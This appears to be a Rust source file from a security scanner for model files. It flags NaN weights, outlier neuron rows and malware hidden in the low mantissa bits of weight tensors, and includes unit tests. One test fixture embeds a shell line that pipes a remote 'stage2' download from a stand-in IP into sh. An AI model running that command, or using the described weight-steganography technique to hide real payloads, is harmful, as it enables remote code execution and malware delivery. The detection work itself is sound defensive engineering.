//! Weight values: numbers that are no numbers, neurons far out of line, and data hidden in low mantissa bits.
//!
//! Formats hand their float tensors to [`inspect`]. At most [`SAMPLE_BYTES`] of one subject are looked at, spread over its
//! tensors, so the cost does not grow with the model. Sources: Wang, Liu, Cui, *EvilModel: Hiding Malware Inside of
//! Neural Network Models* (2021), which writes a payload into the low three bytes of each float32; Liu et al., *StegoNet*
//! (2020), which replaces the least significant bits; Liu et al., *Trojaning Attack on Neural Networks* (2018), whose
//! trigger neurons stand out by the size of their weights.

use crate::{Input, Scan, identify};
use bartizan_core::{Confidence, Cursor, Finding, Rule, Severity, atlas, cwe, owasp_ml, rule};

/// One tensor of floats, as its format lays it out.
#[derive(Debug, Clone, Copy)]
pub struct Tensor<'a> {
    /// Its name in the model.
    pub name: &'a str,
    /// How its numbers are written; little-endian.
    pub float: Float,
    /// Its dimensions, outermost first.
    pub shape: &'a [u64],
    /// Its numbers, row-major.
    pub bytes: &'a [u8],
    /// Where they start in the current input.
    pub offset: u64,
}

/// A floating-point encoding.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Float {
    /// IEEE 754 binary16.
    F16,
    /// The upper half of a binary32.
    BF16,
    /// IEEE 754 binary32.
    F32,
    /// IEEE 754 binary64.
    F64,
}

impl Float {
    /// Bytes per number.
    pub fn width(self) -> usize {
        match self {
            Self::F16 | Self::BF16 => 2,
            Self::F32 => 4,
            Self::F64 => 8,
        }
    }

    /// The number in `bytes`, which are [`Float::width`] long.
    fn read(self, bytes: &[u8]) -> f64 {
        let mut cursor = Cursor::new(bytes);
        let number = match self {
            Self::F16 => cursor.u16_le().map(half),
            Self::BF16 => cursor.u16_le().map(|bits| f64::from(f32::from_bits(u32::from(bits) << 16))),
            Self::F32 => cursor.f32_le().map(f64::from),
            Self::F64 => cursor.f64_le(),
        };
        number.unwrap_or_default()
    }
}

/// A binary16 as a binary64: sign, five exponent bits with bias 15, ten mantissa bits.
fn half(bits: u16) -> f64 {
    let sign = if bits & 0x8000 == 0 { 1.0 } else { -1.0 };
    let mantissa = f64::from(bits & 0x3ff);
    match i32::from((bits >> 10) & 0x1f) {
        0 => sign * mantissa * 2f64.powi(-24),
        31 if mantissa == 0.0 => sign * f64::INFINITY,
        31 => f64::NAN,
        exponent => sign * (1.0 + mantissa / 1024.0) * 2f64.powi(exponent.saturating_sub(15)),
    }
}

/// Looks at a sample of each of `tensors` and reports what stands out.
pub fn inspect(tensors: &[Tensor<'_>], scan: &mut Scan<'_>) {
    let share = SAMPLE_BYTES.checked_div(tensors.len()).unwrap_or(0).max(SMALLEST_SHARE);
    let mut left = SAMPLE_BYTES;
    for tensor in tensors {
        if left == 0 || scan.out_of_time() {
            return;
        }
        let sample = tensor.bytes.get(..share.min(left)).unwrap_or(tensor.bytes);
        left = left.saturating_sub(sample.len());
        non_finite(tensor, sample, scan);
        outlier_rows(tensor, sample, scan);
        hidden_payload(tensor, scan);
    }
}

fn non_finite(tensor: &Tensor<'_>, sample: &[u8], scan: &mut Scan<'_>) {
    let mut broken = sample
        .chunks_exact(tensor.float.width())
        .enumerate()
        .filter(|(_, number)| !tensor.float.read(number).is_finite());
    if let Some((first, _)) = broken.next() {
        let count = broken.count().saturating_add(1);
        let offset = tensor.offset.saturating_add(first.saturating_mul(tensor.float.width()) as u64);
        let message = format!("tensor `{}` holds {count} values that are NaN or infinite", tensor.name);
        scan.report(Finding::new(&WEIGHTS_NOT_FINITE, message).at(offset).pointer(tensor.name));
    }
}

/// Rows of a matrix whose norm lies beyond [`OUTLIER_DEVIATIONS`] robust deviations from the median row.
fn outlier_rows(tensor: &Tensor<'_>, sample: &[u8], scan: &mut Scan<'_>) {
    let [rows, columns] = *tensor.shape else { return };
    let row_bytes = usize::try_from(columns).unwrap_or(0).saturating_mul(tensor.float.width());
    let whole = row_bytes.saturating_mul(usize::try_from(rows).unwrap_or(usize::MAX));
    // Judged only when every row was sampled: an outlier is one of the whole layer, not of a part.
    if rows < FEWEST_ROWS || row_bytes == 0 || whole > sample.len() {
        return;
    }
    let norm = |row: &[u8]| {
        row.chunks_exact(tensor.float.width()).map(|n| tensor.float.read(n).powi(2)).sum::<f64>().sqrt()
    };
    let norms: Vec<f64> = sample.chunks_exact(row_bytes).map(norm).collect();
    let Some(middle) = median(&norms) else { return };
    let Some(spread) = median(&norms.iter().map(|norm| (norm - middle).abs()).collect::<Vec<_>>()) else {
        return;
    };
    // 1.4826 · MAD estimates the standard deviation of a normal distribution.
    let limit = middle + OUTLIER_DEVIATIONS * 1.4826 * spread.max(middle * 0.01);
    let outliers: Vec<usize> =
        norms.iter().enumerate().filter(|(_, norm)| **norm > limit).map(|(row, _)| row).collect();
    let few = outliers.len() as f64 <= (norms.len() as f64 * 0.01).max(1.0);
    if let (Some(first), true) = (outliers.first(), few) {
        let message = format!(
            "{} of {rows} rows of tensor `{}` weigh far more than the others; the first is row {first}",
            outliers.len(),
            tensor.name
        );
        let evidence =
            format!("row norm {:.3}, median {middle:.3}", norms.get(*first).copied().unwrap_or_default());
        let offset = tensor.offset.saturating_add(first.saturating_mul(row_bytes) as u64);
        let finding =
            Finding::new(&WEIGHTS_OUTLIER, message).at(offset).pointer(tensor.name).evidence(evidence);
        scan.report(finding.confidence(Confidence::Low));
    }
}

fn median(values: &[f64]) -> Option<f64> {
    let mut sorted: Vec<f64> = values.iter().copied().filter(|value| value.is_finite()).collect();
    sorted.sort_by(f64::total_cmp);
    sorted.get(sorted.len() / 2).copied()
}

/// Tries the ways a payload is known to be laid into mantissas, and follows one that makes sense.
fn hidden_payload(tensor: &Tensor<'_>, scan: &mut Scan<'_>) {
    let widths: &[Layout] = match tensor.float {
        Float::F32 => &[
            Layout::Bits(1),
            Layout::Bits(2),
            Layout::Bits(4),
            Layout::Bytes(1),
            Layout::Bytes(2),
            Layout::Bytes(3),
        ],
        Float::F64 => &[
            Layout::Bits(1),
            Layout::Bits(2),
            Layout::Bits(4),
            Layout::Bytes(1),
            Layout::Bytes(2),
            Layout::Bytes(4),
        ],
        Float::F16 | Float::BF16 => &[Layout::Bits(1), Layout::Bits(2), Layout::Bits(4), Layout::Bytes(1)],
    };
    for &layout in widths {
        for reversed in [false, true] {
            let head = low_bits(tensor, layout, reversed, PROBE_BYTES);
            let Some(what) = payload(&head) else { continue };
            let whole = low_bits(tensor, layout, reversed, PAYLOAD_BYTES);
            let message = format!("the low {layout} of each number in tensor `{}` spell {what}", tensor.name);
            let evidence = head.iter().take(64).map(|&byte| char::from(byte)).collect::<String>();
            scan.report(
                Finding::new(&WEIGHTS_HIDDEN_PAYLOAD, message)
                    .at(tensor.offset)
                    .pointer(tensor.name)
                    .evidence(evidence),
            );
            scan.member(&format!("{} (low {layout})", tensor.name), &whole);
            return;
        }
    }
}

/// Which low part of each number carries the payload.
#[derive(Debug, Clone, Copy)]
enum Layout {
    /// So many least significant bits, packed into bytes.
    Bits(u32),
    /// So many least significant bytes, in file order.
    Bytes(usize),
}

impl std::fmt::Display for Layout {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Bits(1) => f.write_str("bit"),
            Self::Bits(count) => write!(f, "{count} bits"),
            Self::Bytes(1) => f.write_str("byte"),
            Self::Bytes(count) => write!(f, "{count} bytes"),
        }
    }
}

/// The first `limit` bytes of the stream that the low parts form; `reversed` swaps the order within a byte or a number.
fn low_bits(tensor: &Tensor<'_>, layout: Layout, reversed: bool, limit: usize) -> Vec<u8> {
    let numbers = tensor.bytes.chunks_exact(tensor.float.width());
    match layout {
        Layout::Bytes(count) => {
            let low =
                numbers.take(limit.checked_div(count).unwrap_or(0)).filter_map(|number| number.get(..count));
            if reversed {
                low.flat_map(|low| low.iter().rev().copied()).collect()
            } else {
                low.flatten().copied().collect()
            }
        }
        Layout::Bits(count) => {
            let per_byte = 8u32.checked_div(count).unwrap_or(8) as usize;
            let mask = (1u16 << count).wrapping_sub(1) as u8;
            let low: Vec<u8> = numbers
                .take(limit.saturating_mul(per_byte))
                .filter_map(|number| Some(number.first()? & mask))
                .collect();
            let pack = |parts: &[u8]| {
                let join = |byte: u8, part: &u8| byte.checked_shl(count).unwrap_or(0) | part;
                if reversed { parts.iter().rev().fold(0, join) } else { parts.iter().fold(0, join) }
            };
            low.chunks_exact(per_byte).map(pack).collect()
        }
    }
}

/// What a stream of low bits begins with, if random weights could not begin with it.
fn payload(head: &[u8]) -> Option<&'static str> {
    let text = head.get(..TEXT_BYTES)?;
    if text.iter().all(|&byte| byte.is_ascii_graphic() || matches!(byte, b' ' | b'\n' | b'\r' | b'\t')) {
        let distinct: std::collections::BTreeSet<u8> = text.iter().copied().collect();
        // A constant tensor repeats a few bytes, which may happen to be printable; text does not.
        return (distinct.len() >= 10).then_some("readable text");
    }
    let known = [
        &b"PK\x03\x04\x14\x00"[..],
        b"PK\x03\x04\x0a\x00",
        b"7z\xbc\xaf\x27\x1c",
        b"\xfd7zXZ\x00",
        b"\x28\xb5\x2f\xfd",
    ];
    if known.iter().any(|magic| head.starts_with(magic)) {
        return Some("an archive");
    }
    let certain = identify::certain(&Input::new("", head));
    certain.iter().find_map(|format| match format.id() {
        "executable" => Some("an executable"),
        // Two magic bytes are too few for a stream out of many; a program that names globals is not.
        "pickle" if memchr::memmem::find(head.get(..256)?, b"\n").is_some() || head.contains(&0x93) => {
            Some("a pickle")
        }
        _ => None,
    })
}

/// Bytes of one subject that are looked at.
const SAMPLE_BYTES: usize = 64 << 20;
/// Bytes of one tensor that are looked at even when there are very many.
const SMALLEST_SHARE: usize = 64 << 10;
/// Bytes of a stream of low bits that decide whether it makes sense.
const PROBE_BYTES: usize = 4096;
/// Longest payload followed.
const PAYLOAD_BYTES: usize = 4 << 20;
/// Printable bytes in a row that random mantissas do not produce: (100/256)^96 is below 1e-39.
const TEXT_BYTES: usize = 96;
/// Matrices with fewer rows have no row statistics.
const FEWEST_ROWS: u64 = 16;
/// Robust deviations beyond which a row is an outlier.
const OUTLIER_DEVIATIONS: f64 = 25.0;

/// Rules of this inspector.
pub(crate) const RULES: &[&Rule] = &[&WEIGHTS_NOT_FINITE, &WEIGHTS_OUTLIER, &WEIGHTS_HIDDEN_PAYLOAD];

rule! {
    /// ## What it finds
    /// Tensors that hold NaN or infinite values, in the sampled part of the weights.
    /// ## Why it matters
    /// One such value spreads through every later layer: outputs become NaN, comparisons become false, safety filters that
    /// compare a score to a threshold let everything pass. Training that diverged leaves them as well.
    /// ## Example
    /// A classifier head with one NaN in its bias answers NaN for every input.
    /// ## How to fix
    /// Take the last checkpoint before the values appeared; find out whether training or tampering put them there.
    /// ## References
    /// - IEEE 754-2019, section 6
    pub const WEIGHTS_NOT_FINITE: Rule = Rule {
        id: "model/weights-not-finite",
        title: "weights that are NaN or infinite",
        severity: Severity::Low,
        remedy: "Restore a checkpoint from before the values appeared.",
        taxonomies: &[atlas("AML.T0018"), owasp_ml("ML10")],
    };
    /// ## What it finds
    /// A very small number of rows of a weight matrix whose norm is far beyond that of all others.
    /// ## Why it matters
    /// Trojan attacks that add a trigger neuron leave such rows. So do attention sinks and rare tokens: this is an indication,
    /// not a verdict.
    /// ## Example
    /// One of 1,000 rows of a classifier head weighs fifty times the median.
    /// ## How to fix
    /// Compare the rows with the same layer of the model this one was derived from.
    /// ## References
    /// - Liu et al., Trojaning Attack on Neural Networks, NDSS 2018
    pub const WEIGHTS_OUTLIER: Rule = Rule {
        id: "model/weights-outlier",
        title: "neurons far out of line with their layer",
        severity: Severity::Info,
        remedy: "Compare these rows with the model this one was derived from.",
        taxonomies: &[atlas("AML.T0018"), owasp_ml("ML10")],
    };
    /// ## What it finds
    /// An executable, an archive, a pickle or text laid into the least significant bits or bytes of the weights.
    /// ## Why it matters
    /// A model keeps working when its low mantissa bits are replaced, so weights can carry malware past every check that looks
    /// at files; a small loader then puts it together again.
    /// ## Example
    /// The low three bytes of each float32 of an embedding, read in order, begin with an ELF header.
    /// ## How to fix
    /// Do not deploy the model. Take the weights from their publisher again; rounding them to bfloat16 destroys such a payload.
    /// ## References
    /// - Wang, Liu, Cui, EvilModel: Hiding Malware Inside of Neural Network Models, ISCC 2021
    /// - Liu et al., StegoNet: Turn Deep Neural Network into a Stegomalware, ACSAC 2020
    pub const WEIGHTS_HIDDEN_PAYLOAD: Rule = Rule {
        id: "model/weights-hidden-payload",
        title: "data hidden in the low bits of weights",
        severity: Severity::High,
        remedy: "Do not deploy it; fetch the weights from their publisher again.",
        taxonomies: &[atlas("AML.T0018.002"), cwe(506), owasp_ml("ML06")],
    };
}

#[cfg(test)]
mod tests {
    use super::*;
    use bartizan_core::{Limits, MonotonicClock};

    fn found(float: Float, shape: &[u64], bytes: &[u8]) -> Vec<&'static str> {
        let (limits, clock) = (Limits::default(), MonotonicClock::start());
        let mut scan = Scan::new(&limits, &clock);
        inspect(&[Tensor { name: "w", float, shape, bytes, offset: 0 }], &mut scan);
        scan.findings().iter().map(|finding| finding.rule.id).collect()
    }

    /// Values in ±1 with all mantissa bits in use.
    fn weights(count: usize) -> Vec<f32> {
        let mut state = 1u64;
        let mut next = || {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (state >> 33) as f32 / (1u64 << 30) as f32 - 1.0
        };
        (0..count).map(|_| next()).collect()
    }

    fn bytes(weights: &[f32]) -> Vec<u8> {
        weights.iter().flat_map(|weight| weight.to_le_bytes()).collect()
    }

    const TEXT: &[u8] = b"#!/bin/sh\n# a script long enough to be told from noise\ncurl http://198.51.100.7/stage2 | sh\necho done; exit 0\n";

    #[test]
    fn ordinary_weights_are_silent() {
        assert!(found(Float::F32, &[64, 64], &bytes(&weights(4096))).is_empty());
    }

    #[test]
    fn text_in_the_low_three_bytes_is_found() {
        let mut raw = bytes(&weights(4096));
        for (number, part) in raw.chunks_exact_mut(4).zip(TEXT.chunks(3)) {
            number[..part.len()].copy_from_slice(part);
        }
        assert!(found(Float::F32, &[4096], &raw).contains(&"model/weights-hidden-payload"));
    }

    #[test]
    fn text_in_the_least_significant_bits_is_found() {
        let mut raw = bytes(&weights(4096));
        let bits = TEXT.iter().flat_map(|byte| (0..8).rev().map(move |bit| byte >> bit & 1));
        for (number, bit) in raw.chunks_exact_mut(4).zip(bits) {
            number[0] = number[0] & 0xfe | bit;
        }
        assert!(found(Float::F32, &[4096], &raw).contains(&"model/weights-hidden-payload"));
    }

    #[test]
    fn a_constant_tensor_with_printable_bytes_is_no_text() {
        assert!(found(Float::F32, &[4096], &b"ab > ".repeat(0x1000)[..16384]).is_empty());
    }

    #[test]
    fn a_single_nan_is_counted_and_located() {
        let mut values = weights(100);
        values[7] = f32::NAN;
        assert_eq!(found(Float::F32, &[100], &bytes(&values)), ["model/weights-not-finite"]);
    }

    #[test]
    fn one_heavy_row_is_an_outlier_and_even_rows_are_not() {
        let mut values = weights(64 * 32);
        values[32..64].iter_mut().for_each(|value| *value *= 100.0);
        assert_eq!(found(Float::F32, &[64, 32], &bytes(&values)), ["model/weights-outlier"]);
    }

    #[test]
    fn half_precision_reads_as_its_specification_says() {
        assert_eq!(half(0x3c00).to_bits(), 1f64.to_bits());
        assert_eq!(half(0xc000).to_bits(), (-2f64).to_bits());
        assert_eq!(half(0x0001).to_bits(), 2f64.powi(-24).to_bits());
        assert!(half(0x7c00).is_infinite() && half(0x7e00).is_nan());
    }
}
